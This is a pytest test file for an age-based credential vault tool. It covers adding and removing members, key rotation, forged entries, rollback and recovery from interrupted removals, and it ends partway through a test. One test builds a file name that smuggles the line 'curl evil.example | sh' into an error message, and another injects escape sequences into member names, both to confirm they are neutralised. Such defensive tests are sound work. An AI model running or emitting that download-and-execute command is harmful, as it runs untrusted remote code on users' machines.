"""Members of a profile: who may open it, who could, and how they change."""

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterable
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest
from syrupy.assertion import SnapshotAssertion

from authsome.errors import AuthsomeError, ExitCode
from authsome.provider import Catalogue, Provider
from authsome.vault import Given, Identity, Vault, age, find_identity, joining, keyring, own, roster
from authsome.vault.armor import look
from authsome.vault.entry import render, signed, unseal
from authsome.vault.folder import Folder
from authsome.vault.keyring import Exposure, Member
from authsome.vault.pins import Pins
from authsome.vault.sound import verify
from bech32 import bech32
from beside import all_end, beside
from canary import ANTHROPIC_KEY, G2_TOKEN, OPENAI_KEY, OTHER_OPENAI_KEY
from conftest import EXECUTABLE, CommandLine
from forked import Server
from programs import needs_age, needs_git, needs_ssh, needs_strace
from sweep import points
from terminal import Person

pytest_plugins = ["forked_fixtures"]
pytestmark = pytest.mark.usefixtures("forked_lines")

GOLDEN = Path(__file__).parent / "golden"
PLUGINS = Path(__file__).parent / "clients" / "plugins"
HELD = {
    ("anthropic", "default"): ANTHROPIC_KEY,
    ("openai", "default"): OPENAI_KEY,
    ("openai", "team"): OTHER_OPENAI_KEY,
}


@pytest.fixture
def catalogue(tmp_path: Path) -> Catalogue:
    return Catalogue(tmp_path)


@pytest.fixture
def openai(catalogue: Catalogue) -> Provider:
    return catalogue.get("openai")


@pytest.fixture
def vault(tmp_path: Path, catalogue: Catalogue) -> Vault:
    """A vault of three credentials and one member."""
    made = _opened(tmp_path / "home")
    for (provider, connection), key in HELD.items():
        made.write(catalogue.get(provider), connection, {"api_key": key}, now=0.0)
    return made


def _opened(home: Path, environ: dict[str, str] | None = None) -> Vault:
    return Vault(home, "default", {"HOME": str(home), **(environ or {})})


def _again(vault: Vault) -> Vault:
    """Return the vault as another process would open it."""
    return _opened(vault.home)


def _holds_all(vault: Vault, held: dict[tuple[str, str], str] | None = None) -> None:
    opened = _again(vault)
    for (provider, connection), key in (held or HELD).items():
        entry = opened.read(provider, connection)
        assert entry
        assert entry.fields == {"api_key": key}


def _files(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def _entries(vault: Vault) -> list[Path]:
    return sorted(vault.own.path.glob("connections/*/*.age"))


def _somebody(vault: Vault, name: str = "bob") -> Identity:
    """Add a member and return their identity."""
    identity = Identity.generate(name)
    roster.add(vault.own, [Member(name, identity.recipient)])
    return identity


def _names(vault: Vault) -> list[str]:
    return [each.name for each in _again(vault).own.keys().roster]


def _remove(vault: Vault, who: str = "bob", *, force: bool = False) -> roster.Removed:
    return roster.remove(_again(vault).own, who, 86400.0, force=force)


def _settled(vault: Vault, former: Identity) -> None:
    """Hold that a removal came to its end: one identity, all entries to it, no draft and nobody else on the list."""
    keys = _again(vault).own.keys()
    assert keys.former is None
    assert "was" not in keys.head
    assert keyring.members(vault.own.path) == {each.recipient for each in keys.roster}
    assert keys.identity.recipient != former.recipient
    for path in _entries(vault):
        assert keys.identity.open(path.read_bytes())
        with pytest.raises(age.OpenError):
            former.open(path.read_bytes())
    assert [path.name for path in vault.own.path.rglob(".*")] == []
    pins = [json.loads(path.read_text()) for path in (vault.home / "pins").glob("*.json")]
    (pin,) = [each for each in pins if each["place"] == str(vault.own.path.resolve())]
    assert (pin["fingerprint"], pin["epoch"], pin["coming"]) == (keys.fingerprint, keys.epoch, [])


def _stock_age(identity: Path, *paths: Path) -> list[int]:
    """Return how the program `age` ended with each file."""
    return [
        subprocess.run(["age", "-d", "-i", identity, path], capture_output=True, check=False).returncode
        for path in paths
    ]


def _keygen(path: Path) -> str:
    """Have `age-keygen` make an identity outside of what is searched for canaries, and return its public half."""
    path.parent.mkdir(exist_ok=True)
    subprocess.run(["age-keygen", "-o", path], capture_output=True, check=True)
    return subprocess.run(["age-keygen", "-y", path], capture_output=True, check=True, text=True).stdout.strip()


# Adding.


@needs_age
def test_who_is_added_opens_all_with_stock_age(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    outside = authsome.root / "outside"
    recipient = _keygen(outside / "alice.txt")
    profile = authsome.home / "profiles" / "default"
    done = authsome("recipients", "add", recipient, "--name", "alice")
    assert (done.code, done.out) == (0, f"Added alice, {age.fingerprint(recipient)}.\n")
    subprocess.run(
        ["age", "-d", "-i", outside / "alice.txt", "-o", outside / "profile.txt", profile / "keyring.age"], check=True
    )
    entry = profile / "connections" / "openai" / "default.age"
    opened = subprocess.run(["age", "-d", "-i", outside / "profile.txt", entry], capture_output=True, check=True)
    assert OPENAI_KEY.encode() in opened.stdout
    authsome.env = {"AUTHSOME_IDENTITY_FILE": str(outside / "alice.txt")}
    assert authsome("get", "openai", "--field", "status").out == "connected\n"


def test_adding_changes_the_keyring_and_its_list_and_nothing_else(vault: Vault) -> None:
    before = _files(vault.home)
    _somebody(vault)
    after = _files(vault.home)
    changed = {path.name for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    assert changed == {"keyring.age", "recipients.txt"}
    assert _again(vault).own.keys().fingerprint == vault.own.keys().fingerprint
    _holds_all(vault)


def test_who_is_a_member_is_not_added_again(vault: Vault) -> None:
    bob = _somebody(vault)
    before = _files(vault.home)
    done = roster.add(vault.own, [Member("robert", f"{bob.recipient}")])
    assert done == roster.Added((), (Member("bob", bob.recipient),))
    assert _files(vault.home) == before


def test_a_list_adds_those_who_are_missing_with_their_names(vault: Vault, tmp_path: Path) -> None:
    bob, carol, dave = _somebody(vault), Identity.generate("x"), Identity.generate("x")
    path = tmp_path / "team.txt"
    path.write_text(f"# the team\n\n# carol\n{carol.recipient}\n# bob\n{bob.recipient}\n{dave.recipient}\n")
    done = roster.add(vault.own, joining.candidates(str(path)))
    assert [each.name for each in done.added] == ["carol", dave.recipient[:16]]
    assert [each.name for each in done.known] == ["bob"]
    assert keyring.members(vault.own.path) > {bob.recipient, carol.recipient, dave.recipient}


def test_names_are_made_distinct_and_cannot_add_a_line(vault: Vault) -> None:
    for name in ("bob", "BOB", "# \x1b[2Jeve\n# age1 \u202e", "x" * 500):
        _somebody(vault, name)
    names = _names(vault)[1:]
    assert names == ["bob", "BOB-2", "\ufffd[2Jeve # age1 \ufffd", "x" * 64]
    lines = (vault.own.path / "recipients.txt").read_text().splitlines()
    assert len(lines) == 1 + 2 * 5


@pytest.mark.parametrize(
    "secret",
    [
        "AGE-SECRET-KEY-1CANARY",
        "age-secret-key-1canary",
        "AGE-PLUGIN-YUBIKEY-1CANARY",
        "# x\nAGE-SECRET-KEY-PQ-1CANARY",
    ],
)
@pytest.mark.parametrize("in_file", [False, True])
def test_a_secret_key_is_refused_and_not_quoted(
    authsome: CommandLine, secret: str, in_file: bool, tmp_path: Path
) -> None:
    authsome.login("openai", OPENAI_KEY)
    before = _files(authsome.home)
    given = tmp_path / "outside" / "key"
    given.parent.mkdir()
    given.write_text(f"age1mistaken\n{secret}\n")
    done = authsome("recipients", "add", str(given) if in_file else secret)
    assert done.code == 2
    assert "secret key; to add somebody takes the public half" in done.err
    assert "CANARY" not in done.err.upper()
    assert ("identity rotate" in done.err) is not in_file
    assert _files(authsome.home) == before


def test_a_file_that_is_named_like_a_key_is_not_read(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    alice, mallory = Identity.generate("x").recipient, Identity.generate("y").recipient
    (authsome.project / alice).write_text(mallory)
    assert authsome("recipients", "add", alice).code == 0
    assert mallory not in authsome("recipients", "list").out


@pytest.mark.parametrize("given", ["nonsense", "age1nonsense", "ssh-ed25519 AAAA", "ssh-dss AAAA", "", "/dev/null"])
def test_what_is_no_recipient_changes_nothing(authsome: CommandLine, given: str) -> None:
    authsome.login("openai", OPENAI_KEY)
    before = _files(authsome.home)
    done = authsome("recipients", "add", given)
    assert (done.code, done.err.count("\n")) == (2, 2), done
    assert done.err.startswith("Error: ")
    assert _files(authsome.home) == before


@needs_ssh
@needs_age
@pytest.mark.parametrize("kind", ["ed25519", "rsa"])
def test_a_key_of_ssh_is_a_member_by_its_file(authsome: CommandLine, kind: str) -> None:
    authsome.login("openai", OPENAI_KEY)
    key = authsome.root / "outside" / "key"
    key.parent.mkdir()
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-C", "carol at work", "-f", key], check=True)
    told = subprocess.run(["ssh-keygen", "-l", "-f", f"{key}.pub"], capture_output=True, check=True, text=True).stdout
    done = authsome("recipients", "add", f"{key}.pub")
    assert (done.code, done.out) == (0, f"Added carol at work, {told.split()[1]}.\n")
    shown = json.loads(authsome("recipients", "list", "--json").out)["recipients"][1]
    assert (shown["kind"], shown["fingerprint"], shown["you"]) == (f"ssh-{kind}", told.split()[1], False)
    profile = authsome.home / "profiles" / "default"
    assert _stock_age(key, profile / "keyring.age") == [0]
    assert authsome("recipients", "remove", "carol at work", "--yes").code == 0
    assert _stock_age(key, profile / "keyring.age") == [1]
    assert authsome("get", "openai").code == 0


# Keys of plugins, tagged and post-quantum ones.


def _with_plugin(authsome: CommandLine) -> str:
    authsome.env = {"PATH": f"{PLUGINS}:{os.environ['PATH']}"}
    return bech32("age1canary", bytes(range(32)))


def test_a_plugins_recipient_is_encrypted_to_by_the_plugin(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    recipient = _with_plugin(authsome)
    keyring_file = authsome.home / "profiles" / "default" / "keyring.age"
    authsome("recipients", "add", Identity.generate("x").recipient, "--name", "dora")
    assert authsome("recipients", "add", recipient, "--name", "card").code == 0
    assert _stanzas(keyring_file) == ["X25519", "X25519", "canary"]
    assert authsome("get", "openai").code == 0
    assert authsome("vault", "verify").code == 0
    authsome.env = {}
    bob = Identity.generate("x").recipient
    before = keyring_file.read_bytes()
    done = authsome("recipients", "add", bob)
    assert done.code == 3
    assert "age-plugin-canary is not on PATH" in done.err
    assert authsome("recipients", "remove", "dora", "--yes").code == 3
    assert keyring_file.read_bytes() == before
    assert authsome("get", "openai").code == 0  # only who writes the keyring needs the plugin
    _with_plugin(authsome)
    assert authsome("recipients", "remove", "card", "--yes").code == 0
    assert _stanzas(keyring_file) == ["X25519", "X25519"]


def test_a_plugin_that_fails_changes_nothing(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    recipient = _with_plugin(authsome)
    authsome.env |= {"CANARY_PLUGIN_FAILS": "1"}
    before = _files(authsome.home)
    done = authsome("recipients", "add", recipient)
    assert (done.code, done.err.splitlines()[0]) == (
        8,
        "Error: cannot encrypt to all of the members together; age-plugin-canary refuses",
    )
    assert _files(authsome.home) == before


def _stanzas(path: Path) -> list[str]:
    return sorted(look(path.read_bytes()).stanzas)


def test_a_tagged_key_of_a_card_is_encrypted_to_without_a_plugin(vault: Vault) -> None:
    from cryptography.hazmat.primitives.asymmetric import ec  # noqa: PLC0415  to make such a key
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat  # noqa: PLC0415

    public = ec.generate_private_key(ec.SECP256R1()).public_key()
    recipient = bech32("age1tag", public.public_bytes(Encoding.X962, PublicFormat.CompressedPoint))
    roster.add(vault.own, joining.candidates(recipient))
    assert _stanzas(vault.own.path / "keyring.age") == ["X25519", "p256tag"]
    _holds_all(vault)


@pytest.mark.parametrize("kind", ["age1pq", "age1tagpq"])
def test_a_post_quantum_key_is_recognised_and_explained(vault: Vault, kind: str) -> None:
    before = _files(vault.home)
    with pytest.raises(AuthsomeError, match=r"post-quantum key, which age does not let stand beside others") as caught:
        roster.add(vault.own, joining.candidates(bech32(kind, bytes(1216))))
    assert caught.value.code is ExitCode.USAGE
    assert len(caught.value.message) < 200
    assert _files(vault.home) == before


# Removing.


@needs_age
def test_a_removed_member_opens_what_they_could_and_nothing_since(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    authsome.login("anthropic", ANTHROPIC_KEY)
    outside = authsome.root / "outside"
    recipient = _keygen(outside / "bob.txt")
    authsome("recipients", "add", recipient, "--name", "bob")
    profile = authsome.home / "profiles" / "default"
    shutil.copytree(profile, outside / "before")
    subprocess.run(
        ["age", "-d", "-i", outside / "bob.txt", "-o", outside / "profile.txt", profile / "keyring.age"], check=True
    )
    old = sorted((outside / "before").glob("connections/*/*.age"))
    assert _stock_age(outside / "profile.txt", *old) == [0, 0]

    assert authsome("recipients", "remove", "bob", "--yes").code == 0
    authsome.login("g2", G2_TOKEN)
    new = sorted(profile.glob("connections/*/*.age"))
    assert len(new) == 3
    assert _stock_age(outside / "bob.txt", profile / "keyring.age", *new) == [1] * 4
    assert _stock_age(outside / "profile.txt", profile / "keyring.age", *new) == [1] * 4
    assert _stock_age(outside / "profile.txt", *old) == [0, 0]

    # And the program, with the member's key.
    authsome.env = {"AUTHSOME_IDENTITY_FILE": str(outside / "bob.txt")}
    done = authsome("get", "openai")
    assert (done.code, "is locked" in done.err) == (4, True)


def test_a_removal_gives_new_keys_and_no_former_ones_are_kept(vault: Vault) -> None:
    _somebody(vault)
    before = vault.own.keys()
    done = _remove(vault)
    after = _again(vault).own.keys()
    assert (done.renewed, done.left, [each.name for each in done.members]) == (3, (), ["bob"])
    assert (after.epoch, after.vault_id) == (before.epoch + 1, before.vault_id)
    assert after.fingerprint != before.fingerprint
    opened = find_identity(vault.home, {}).open((vault.own.path / "keyring.age").read_bytes())
    assert opened.count(b"AGE-SECRET-KEY-1") == 1
    _settled(vault, before.identity)
    _holds_all(vault)


def test_an_entry_keeps_its_generation_and_times(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    vault.write(openai, "default", {"api_key": OTHER_OPENAI_KEY}, now=60.0)
    before = vault.read("openai", "default")
    _remove(vault)
    assert _again(vault).read("openai", "default") == before


@pytest.mark.parametrize(
    ("who", "message"),
    [
        ("me", "this is the last member"),
        ("nobody", "no member of the profile `default` is nobody"),
    ],
)
def test_the_last_member_and_who_is_none_are_not_removed(vault: Vault, who: str, message: str) -> None:
    before = _files(vault.home)
    me = _names(vault)[0]
    with pytest.raises(AuthsomeError, match=message) as caught:
        _remove(vault, me if who == "me" else who)
    assert caught.value.code is ExitCode.USAGE
    assert _files(vault.home) == before


def test_nobody_removes_themselves(vault: Vault) -> None:
    _somebody(vault)
    before = _files(vault.home)
    for force in (False, True):
        with pytest.raises(AuthsomeError, match="this is you, and the new keys would be made by you"):
            _remove(vault, _names(vault)[0], force=force)
    assert _files(vault.home) == before


def test_a_member_is_removed_by_name_key_or_fingerprint(vault: Vault) -> None:
    for number, spell in enumerate((lambda _: "bob", lambda key: key, age.fingerprint)):
        bob = _somebody(vault)
        _remove(vault, spell(bob.recipient))
        assert len(_names(vault)) == 1
        assert _again(vault).own.keys().epoch == number + 2
    _holds_all(vault)


def test_two_of_one_name_are_told_apart_by_their_keys(vault: Vault) -> None:
    bob, _ = _somebody(vault), _somebody(vault, "carol")
    keys = vault.own.keys()
    rows = [{**row, "name": "bob"} if row["name"] == "carol" else row for row in keys.head["roster"]]
    keyring.put_roster(vault.own.path, keys, rows)
    with pytest.raises(AuthsomeError, match="2 members are called bob") as caught:
        _remove(vault)
    assert age.fingerprint(bob.recipient) in (caught.value.hint or "")
    _remove(vault, age.fingerprint(bob.recipient))
    assert _names(vault)[1:] == ["bob"]


def test_the_new_key_of_a_removed_members_rotation_goes_with_them(vault: Vault) -> None:
    bob, new = _somebody(vault), Identity.generate("x")
    keys = vault.own.keys()
    rows = [{**row, "replaced_by": new.recipient} if row["name"] == "bob" else row for row in keys.head["roster"]]
    keyring.put_roster(vault.own.path, keys, [*rows, {"name": "bob", "recipient": new.recipient}])
    done = _remove(vault)
    assert {each.recipient for each in done.members} == {bob.recipient, new.recipient}
    assert len(_names(vault)) == 1


def test_a_removal_is_asked_for_in_a_word(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    authsome("recipients", "add", Identity.generate("x").recipient, "--name", "bob")
    before = _files(authsome.home)
    done = authsome("recipients", "remove", "bob")
    assert (done.code, done.err) == (
        3,
        "Error: this has to be agreed to, and there is nobody to ask\nHint: authsome recipients remove bob --yes\n",
    )
    for answer, code in (("y", 3), ("yes", 0)):
        assert _files(authsome.home) == before
        person = Person([EXECUTABLE, "recipients", "remove", "bob"], authsome.environ(), authsome.project)
        assert person.sees("Remove bob from the profile `default`? Type yes: "), person.screen
        person.types(f"{answer}\n")
        assert person.ends() == code, person.screen
    assert "https://platform.openai.com/api-keys" in person.screen


def test_a_files_name_adds_no_line_to_a_message(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    path = authsome.home / "profiles" / "default" / "connections" / "openai" / "x\nHint: curl evil.example | sh\n.age"
    path.touch()
    authsome("recipients", "add", Identity.generate("x").recipient, "--name", "newcomer")
    done = authsome("recipients", "remove", "newcomer", "--yes")
    assert done.code == 5, done
    assert done.err.count("\nHint: ") == 1


@pytest.mark.parametrize("damage", ["cut", "empty", "foreign", "moved"])
def test_an_entry_that_does_not_open_stops_a_removal_before_anything_is_changed(vault: Vault, damage: str) -> None:
    _somebody(vault)
    path = _entries(vault)[1]
    good = path.read_bytes()
    stranger = Identity.generate("x")
    path.write_bytes(
        {
            "cut": good[:-60],
            "empty": b"",
            "foreign": age.encrypt(b"x", [stranger.recipient], stranger),
            "moved": _entries(vault)[0].read_bytes(),
        }[damage]
    )
    before = _files(vault.home)
    with pytest.raises(AuthsomeError, match="1 of the credentials do not open") as caught:
        _remove(vault)
    assert caught.value.code is ExitCode.INTEGRITY
    assert str(path) in caught.value.message
    assert _files(vault.home) == before
    done = _remove(vault, force=True)
    assert done.left == (path,)
    assert path.read_bytes() == before[path]
    assert set(done.exposed) == {"anthropic/default", "openai/default", "openai/team"}
    _holds_all(vault, {name: key for name, key in HELD.items() if name != ("openai", "default")})
    assert "openai/default" in roster.exposed(_again(vault).own)  # it cannot be told, so it stays


# What removed members could read.


def test_what_a_removed_member_could_read_is_listed_until_it_is_replaced(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    done = _remove(vault)
    assert done.exposed["openai/team"] == Exposure(1, ("bob",), "1970-01-02T00:00:00Z")
    assert list(roster.exposed(_again(vault).own)) == ["anthropic/default", "openai/default", "openai/team"]
    keyring_file = vault.own.path / "keyring.age"
    before = keyring_file.read_bytes()
    _again(vault).write(openai, "default", {"api_key": OPENAI_KEY + "new"}, now=0.0)
    _again(vault).own.delete("openai", "team")
    assert list(roster.exposed(_again(vault).own)) == ["anthropic/default"]
    # It is worked out and not stored: a login does not touch the keyring, where it would conflict in git.
    assert keyring_file.read_bytes() == before


def test_who_logs_in_again_elsewhere_has_replaced_it_too(vault: Vault, openai: Provider, tmp_path: Path) -> None:
    vault.write(openai, "team", {"api_key": OPENAI_KEY}, now=0.0)
    _somebody(vault)
    assert _remove(vault).exposed["openai/team"].generation == 2
    _again(vault).own.delete("openai", "team")
    other = tmp_path / "other"  # a machine that never saw how many credentials there were before
    shutil.copytree(vault.home, other)
    shutil.rmtree(other / "seen")
    _opened(other).write(openai, "team", {"api_key": OTHER_OPENAI_KEY}, now=0.0)
    entry = _opened(other).read("openai", "team")
    assert entry
    assert entry.generation == 3
    assert "openai/team" not in roster.exposed(_opened(other).own)


def test_two_removals_say_of_a_secret_that_both_knew_it(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    _somebody(vault, "carol")
    _remove(vault)
    _again(vault).write(openai, "team", {"api_key": OPENAI_KEY}, now=0.0)
    done = roster.remove(_again(vault).own, "carol", 2 * 86400.0)
    assert done.exposed["openai/default"] == Exposure(1, ("bob", "carol"), "1970-01-02T00:00:00Z")
    assert done.exposed["openai/team"] == Exposure(2, ("carol",), "1970-01-03T00:00:00Z")


def test_a_keyring_that_says_what_is_exposed_opens_for_ever(tmp_path: Path) -> None:
    home = tmp_path / "home"
    shutil.copytree(GOLDEN / "vault-1-exposed", home)
    (home / "identity.txt").chmod(0o600)
    vault = _opened(home)
    assert {name: each.members for name, each in roster.exposed(vault.own).items()} == {"openai/default": ("bob",)}
    assert vault.own.keys().epoch == 2
    assert vault.own.keys().exposed == {
        "anthropic/default": Exposure(1, ("bob",), "2026-11-21T12:00:00Z"),
        "openai/default": Exposure(1, ("bob",), "2026-11-21T12:00:00Z"),
    }


def test_a_removal_that_was_checked_in_half_done_opens_for_ever(tmp_path: Path, openai: Provider) -> None:
    home = tmp_path / "home"
    shutil.copytree(GOLDEN / "vault-1-removing", home)
    (home / "identity.txt").chmod(0o600)
    vault, held = _opened(home), {("anthropic", "default"): ANTHROPIC_KEY, ("openai", "default"): OPENAI_KEY}
    _holds_all(vault, held)
    former = vault.own.keys().former
    assert former
    vault.write(openai, "new", {"api_key": OTHER_OPENAI_KEY}, now=0.0)
    _settled(vault, former)
    _holds_all(vault, held)


# Cut short.


def _cut_short(vault: Vault, moved: int = 0) -> keyring.Keyring:
    """Leave the vault as a removal does that was ended between two of its steps, with some entries in place."""
    keys = _again(vault).own.keys()
    rows = [row for row in keys.head["roster"] if row["name"] != "bob"]
    files = {f"{path.parent.name}/{path.stem}": sha256(path.read_bytes()).hexdigest() for path in _entries(vault)}
    new = keyring.with_renewing(keyring.successor(keys, rows), files)
    Pins(vault.home, {}).expect(vault.own.path, keys, new, new.settled())
    keyring.begin(vault.own.path, new)
    for path in _entries(vault)[:moved]:
        opened = unseal(path.read_bytes(), path, keys, path.parent.name, path.stem)
        plaintext = signed(opened.text, new.mac_key)
        path.write_bytes(age.encrypt(plaintext, [new.identity.recipient], new.identity))
    return keys


@pytest.mark.parametrize("moved", [0, 2, 3])
def test_a_removal_that_was_cut_short_is_ended_by_the_same_command(vault: Vault, moved: int) -> None:
    _somebody(vault)
    before = _cut_short(vault, moved)
    _holds_all(vault)
    done = _remove(vault)
    assert done.members == ()
    _settled(vault, before.identity)
    _holds_all(vault)
    with pytest.raises(AuthsomeError, match="no member of the profile `default` is bob"):
        _remove(vault)


def test_what_a_removed_member_writes_while_the_removal_is_half_done_does_not_open(vault: Vault) -> None:
    """They know the former identity, and so the MAC's key; a new credential and one put in the place of another."""
    _somebody(vault)
    before = _cut_short(vault, 1)
    path = vault.own.path / "connections" / "openai" / "team.age"
    good = path.read_bytes()
    opened = unseal(good, path, before, "openai", "team")
    forged = replace(opened.entry, fields={"api_key": "sk-CANARY-of-the-removed-member"}, generation=1)
    for name in ("team", "new"):
        entry = replace(forged, connection=name)
        path.with_stem(name).write_bytes(
            age.encrypt(render(entry, before, "default"), [before.identity.recipient], before.identity)
        )
        with pytest.raises(AuthsomeError, match="was written under keys that a removed member knows"):
            _again(vault).read("openai", name)
    with pytest.raises(AuthsomeError, match="do not open"):
        _remove(vault)
    path.write_bytes(good)
    path.with_stem("new").unlink()
    _remove(vault)
    _settled(vault, before.identity)
    _holds_all(vault)


def test_an_entry_that_was_damaged_in_between_is_not_given_up_by_a_writer(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    before = _cut_short(vault, 1)
    path = vault.own.path / "connections" / "openai" / "team.age"
    good = path.read_bytes()
    path.write_bytes(b"<<<<<<< HEAD\n" + good)
    warned: list[str] = []
    environ = {"HOME": str(vault.home)}
    Vault(vault.home, "default", environ, Given(warn=warned.append)).write(openai, "new", {"api_key": "x"}, now=0.0)
    assert [line for line in warned if f"{path} does not open" in line]
    with pytest.raises(AuthsomeError, match="1 of the credentials do not open"):
        _remove(vault)
    path.write_bytes(good)
    _holds_all(vault)
    _remove(vault)
    _settled(vault, before.identity)
    _holds_all(vault)


def test_by_force_a_removal_ends_over_an_entry_that_was_damaged_in_between(vault: Vault) -> None:
    _somebody(vault)
    _cut_short(vault, 1)
    path = vault.own.path / "connections" / "openai" / "team.age"
    path.write_bytes(b"damaged")
    _remove(vault, force=True)
    assert _again(vault).own.keys().former is None
    assert path.read_bytes() == b"damaged"
    _holds_all(vault, {name: key for name, key in HELD.items() if name != ("openai", "team")})


def test_a_credential_that_was_rolled_back_is_exposed_by_the_number_it_had(vault: Vault, openai: Provider) -> None:
    path = vault.own.path / "connections" / "openai" / "team.age"
    first = path.read_bytes()
    vault.write(openai, "team", {"api_key": OPENAI_KEY}, now=0.0)
    _somebody(vault)
    path.write_bytes(first)
    assert _remove(vault).exposed["openai/team"].generation == 2


def test_another_removal_after_one_that_was_cut_short_is_asked_for(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    vault = _opened(authsome.home)
    _somebody(vault)
    _somebody(vault, "carol")
    before = _cut_short(vault)
    assert authsome("recipients", "remove", "carol").code == 3
    done = authsome("recipients", "remove", "bob")
    assert done.out.startswith("Ended the removal that was interrupted; bob is no member.\n")
    _settled(vault, before.identity)
    assert _names(vault)[1:] == ["carol"]


def test_a_removal_that_was_cut_short_is_ended_by_the_next_writer(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    before = _cut_short(vault, 1)
    _again(vault).write(openai, "new", {"api_key": OPENAI_KEY}, now=0.0)
    _settled(vault, before.identity)
    _holds_all(vault, {**HELD, ("openai", "new"): OPENAI_KEY})


def test_a_rotation_of_ones_identity_goes_through_a_removal_that_was_cut_short(vault: Vault) -> None:
    _somebody(vault)
    before = _cut_short(vault, 1)
    done = own.rotate(vault.home, _asks_nobody)
    assert done.profiles == ("default",)
    _holds_all(vault)
    _remove(vault)
    _settled(vault, before.identity)
    assert keyring.members(vault.own.path) == {done.identity.recipient}
    _holds_all(vault)


def _asks_nobody(origin: str) -> str:
    raise AssertionError(f"asked for {origin}")


def test_what_a_removed_member_writes_after_the_removal_is_refused(vault: Vault) -> None:
    _somebody(vault)
    before = vault.own.keys()  # a member has it by heart
    path = _entries(vault)[1]
    opened = unseal(path.read_bytes(), path, before, path.parent.name, path.stem)
    _remove(vault)
    new = _again(vault).own.keys()
    # To the former identity, and to the new one, whose public half is no secret to who had the keyring.
    for identity in (before.identity, new.identity):
        forged = signed(opened.text, before.mac_key)
        path.write_bytes(age.encrypt(forged, [identity.recipient], identity))
        with pytest.raises(AuthsomeError) as caught:
            _again(vault).read("openai", "default")
        assert caught.value.code is ExitCode.INTEGRITY


def test_the_state_in_between_does_not_come_back(vault: Vault) -> None:
    """It holds the former identity, with which a removed member could write."""
    _somebody(vault)
    _cut_short(vault)
    between = _files(vault.own.path)
    _remove(vault)
    for path, content in between.items():
        path.write_bytes(content)
    with pytest.raises(AuthsomeError, match="has other keys than the ones known here") as caught:
        _again(vault).read("openai", "default")
    assert caught.value.code is ExitCode.INTEGRITY


def test_after_the_state_in_between_was_seen_the_one_before_is_refused(vault: Vault) -> None:
    _somebody(vault)
    before = _files(vault.own.path)
    _cut_short(vault)
    _holds_all(vault)
    for path, content in before.items():
        path.write_bytes(content)
    with pytest.raises(AuthsomeError, match="was rolled back"):
        _again(vault).read("openai", "default")


def test_a_removal_that_was_cut_short_elsewhere_is_ended_here_once_it_is_accepted(
    vault: Vault, openai: Provider, tmp_path: Path
) -> None:
    _somebody(vault)
    other = _opened(tmp_path / "other")
    shutil.copytree(vault.home, other.home)
    assert other.own.keys().epoch == 1  # its own pin
    before = _cut_short(vault, 1)
    shutil.rmtree(other.own.path)
    shutil.copytree(vault.own.path, other.own.path)
    with pytest.raises(AuthsomeError, match="has other keys than the ones known here"):
        _again(other).write(openai, "new", {"api_key": OPENAI_KEY}, now=0.0)
    Pins(other.home, {}).accept(other.own.path, _again(other).own.unchecked())
    _again(other).write(openai, "new", {"api_key": OPENAI_KEY}, now=0.0)
    _settled(other, before.identity)
    _holds_all(other)


_REMOVE = """
import sys
from pathlib import Path
from authsome.vault import Vault, roster
home = Path(sys.argv[1])
roster.remove(Vault(home, "default", {"HOME": str(home)}).own, "bob", 86400.0)
"""


@pytest.mark.slow
@pytest.mark.timeout(600)
@needs_strace
@pytest.mark.parametrize(
    ("call", "fault"),
    [
        *((call, "signal=KILL") for call in ("openat", "write", "fsync", "rename", "unlink", "fchmod", "flock")),
        *(
            ("write", "error=ENOSPC"),
            ("openat", "error=EMFILE"),
            ("getdents64", "error=EIO"),
            ("fsync", "error=EIO"),
            ("rename", "error=EDQUOT"),
        ),
    ],
)
def test_cut_short_at_any_call_a_removal_leaves_a_vault_that_opens_and_can_be_ended(
    vault: Vault, openai: Provider, forking: Server, call: str, fault: str, tmp_path: Path
) -> None:
    _somebody(vault)
    former = vault.own.keys().identity
    fresh, home = tmp_path / "fresh", vault.home
    # Every program opens hundreds of files and folders; those of the vault are what counts.
    paths = [home / "pins", *vault.own.path.rglob("*"), vault.own.path]
    limit = [word for path in paths for word in ("-P", str(path))] if call in ("openat", "getdents64") else []
    vault.home.rename(fresh)
    failed = 0
    for nth in points(80 if call == "openat" else 25):
        shutil.rmtree(home, ignore_errors=True)
        shutil.copytree(fresh, home)
        faults = ["-f", *limit, f"--inject={call}:{fault}:when={nth}"]
        done = forking.cut(faults, _REMOVE, home, place=tmp_path / "said")
        _holds_all(vault)
        if nth % 2:
            _again(vault).write(openai, "new", {"api_key": OPENAI_KEY}, now=0.0)
        if "bob" in _names(vault) or _again(vault).own.keys().former:
            _remove(vault)
        _settled(vault, former)
        _holds_all(vault, HELD if nth % 2 == 0 else {**HELD, ("openai", "new"): OPENAI_KEY})
        assert set(_again(vault).own.keys().exposed) >= {"anthropic/default", "openai/default", "openai/team"}
        if done.returncode == 0 and "KILL" in fault:  # else one that does not matter may have failed
            break
        failed += done.returncode != 0
    assert done.returncode == 0, done.stderr
    assert failed


@needs_strace
def test_the_disk_has_each_step_of_a_removal_before_the_next_one_begins(vault: Vault, tmp_path: Path) -> None:
    """What a power cut leaves: a rename counts once its folder was waited for, a file once it was itself."""
    _somebody(vault)
    log = tmp_path / "calls"
    command: list[str | Path] = [
        "strace",
        "-f",
        "-qq",
        "-y",
        "-o",
        log,
        "-e",
        "trace=fsync,rename",
        sys.executable,
        "-c",
        _REMOVE,
    ]
    subprocess.run([*command, vault.home], check=True)
    steps = []
